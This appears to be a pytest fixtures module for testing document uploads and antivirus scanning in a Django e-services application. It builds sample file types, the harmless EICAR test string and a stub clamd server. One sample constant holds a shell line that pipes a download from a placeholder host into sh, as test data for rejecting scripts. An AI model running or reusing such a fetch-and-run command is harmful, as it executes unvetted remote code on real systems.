"""Fixtures, sample files and a stub antivirus daemon for the document tests."""

import base64
import contextlib
import io
import itertools
import socketserver
import struct
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from django.utils import timezone
from PIL import Image

from saduak.accounts.models import User
from saduak.areas.models import Office
from saduak.core.uploads.sample_files import (
    PAGE_OBJECTS,
    pdf_file,
    pdf_stream,
    png_of_one_colour,
)
from saduak.eservices.choices import ApplicationStatus, VersionStatus
from saduak.eservices.models import Application, Service, ServiceVersion

__all__ = ["PAGE_OBJECTS", "pdf_file", "pdf_stream", "png_of_one_colour"]


# --- Sample files -----------------------------------------------------------------
def image_file(pil_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(buffer, pil_format)
    return buffer.getvalue()


# Real files of each kind, small; the PDF's page holds some bytes of filler.
PDF = pdf_file([*PAGE_OBJECTS, pdf_stream(b"% " + bytes(range(32, 127)) * 100)])
PNG = image_file("PNG")
JPG = image_file("JPEG")
WEBP = image_file("WEBP")
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x03" * 200
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
ZIP = b"PK\x03\x04\x14\x00\x00\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
# The EICAR test file, the antivirus industry's harmless "virus".
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

KEY_ONE = base64.b64encode(bytes(range(32))).decode()
KEY_TWO = base64.b64encode(bytes(range(32, 64))).decode()

# A form with two document fields, shaped as the built-in services' forms.
FORM = {
    "sections": [
        {
            "key": "documents",
            "title": {"th": "เอกสาร", "en": "Documents"},
            "fields": [
                {
                    "key": "bank_book",
                    "type": "file",
                    "label": {"th": "สมุดบัญชี", "en": "Bank book"},
                    "required": True,
                    "file_types": ["pdf", "jpg", "png"],
                    "max_size_mb": 1,
                    "max_files": 2,
                },
                {
                    "key": "photos",
                    "type": "file",
                    "label": {"th": "รูปถ่าย", "en": "Photos"},
                    "required": False,
                    "file_types": ["jpg", "png", "heic", "webp"],
                    "max_size_mb": 10,
                },
                {
                    "key": "note",
                    "type": "text",
                    "label": {"th": "หมายเหตุ", "en": "Note"},
                },
            ],
        }
    ]
}

_references = itertools.count(1)

__all__ = [
    "application",
    "document_settings",
    "make_application",
    "private_root",
    "service_version",
]


# --- A stub clamd -------------------------------------------------------------------
@dataclass
class ClamdLog:
    """What the stub received: the command and each chunk's length."""

    commands: list[bytes] = field(default_factory=list)
    chunk_sizes: list[int] = field(default_factory=list)
    received: bytearray = field(default_factory=bytearray)


def _clamd_handler(log: ClamdLog, reply: bytes | None) -> type:
    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            stream = self.request.makefile("rb")
            command = stream.read(len(b"zINSTREAM\0"))
            log.commands.append(command)
            data = bytearray()
            while True:
                header = stream.read(4)
                if len(header) < 4:
                    return
                (length,) = struct.unpack("!L", header)
                if length == 0:
                    break
                log.chunk_sizes.append(length)
                data += stream.read(length)
            log.received += data
            if reply is not None:
                answer = reply
            elif EICAR in data:
                answer = b"stream: Eicar-Test-Signature FOUND\0"
            else:
                answer = b"stream: OK\0"
            self.request.sendall(answer)

    return Handler


class _UnixServer(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True


class _TcpServer(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True


@contextlib.contextmanager
def clamd_stub(
    unix_path: str | None = None, reply: bytes | None = None
) -> Iterator[tuple[str, ClamdLog]]:
    """A clamd speaking INSTREAM in a thread: finds EICAR, passes the rest (or
    always answers `reply`). Yields its CLAMD_ADDRESS and what it received."""
    log = ClamdLog()
    handler = _clamd_handler(log, reply)
    server: socketserver.BaseServer
    if unix_path:
        server = _UnixServer(unix_path, handler)
        address = f"unix://{unix_path}"
    else:
        server = _TcpServer(("127.0.0.1", 0), handler)
        address = f"tcp://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    try:
        yield address, log
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def unused_tcp_address() -> str:
    """An address where nothing listens."""
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    return f"tcp://127.0.0.1:{port}"


@pytest.fixture(autouse=True)
def document_settings(settings, tmp_path) -> None:
    """Private storage in a temporary folder, known master keys, no antivirus."""
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "private")},
        },
    }
    settings.ESERVICES_MASTER_KEYS = f"one:{KEY_ONE}"
    settings.CLAMD_ADDRESS = ""
    settings.ESERVICES_MAX_UPLOAD_MB = 20


@pytest.fixture
def private_root(tmp_path):
    return tmp_path / "private"


@pytest.fixture
def service_version(db: None) -> ServiceVersion:
    service = Service.objects.create(
        code="doc-test",
        name_th="บริการทดสอบเอกสาร",
        name_en="Document test service",
        bureau_th="สำนักทดสอบ",
    )
    return ServiceVersion.objects.create(
        service=service,
        number=1,
        status=VersionStatus.PUBLISHED,
        form=FORM,
        published_at=timezone.now(),
    )


@pytest.fixture
def make_application(
    small_map: None, service_version: ServiceVersion
) -> Callable[..., Application]:
    def make(
        applicant: User,
        office_code: str = "ddc-1001",
        status: str = ApplicationStatus.DRAFT,
    ) -> Application:
        office = Office.objects.get(code=office_code)
        return Application.objects.create(
            reference=f"DOC{next(_references):08d}",
            version=service_version,
            service=service_version.service,
            applicant=applicant,
            office=office,
            district_code=office.district_id or "",
            province_code=office.province_id or "",
            status=status,
        )

    return make


@pytest.fixture
def application(make_application, citizen) -> Application:
    return make_application(citizen)
